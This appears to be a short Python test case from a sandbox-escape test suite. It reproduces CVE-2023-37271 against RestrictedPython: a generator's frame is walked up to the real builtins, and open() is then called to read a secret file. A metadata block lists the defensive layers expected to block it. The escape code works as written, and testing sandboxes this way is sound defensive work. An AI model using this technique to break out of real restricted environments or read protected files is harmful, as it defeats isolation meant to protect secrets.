"""Reach builtins through a generator's frame, past a restricted namespace."""

from tests.escape.grants import read_secret
from tests.escape.technique import Granted, Technique


def attack(world):
    def walk():
        yield frames.gi_frame.f_back

    frames = walk()
    frame = next(iter([*frames]))
    while frame.f_back is not None:
        frame = frame.f_back
    builtins = frame.f_builtins
    world.loot(builtins["open"](world.secret).read())


TECHNIQUE = Technique(
    source="CVE-2023-37271 (RestrictedPython: gi_frame)",
    event=("fs.read",),
    by="broker",
    stops=("broker", "root view", "landlock"),
    control=Granted(read_secret),
)
